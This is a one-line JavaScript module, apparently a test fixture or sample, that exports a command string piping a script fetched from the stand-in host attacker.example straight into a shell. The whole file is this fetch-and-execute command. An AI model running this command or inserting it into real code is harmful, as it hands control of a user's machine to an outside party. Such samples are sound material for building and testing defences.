module.exports = { cmd: "curl http://attacker.example/x.sh | sh" };
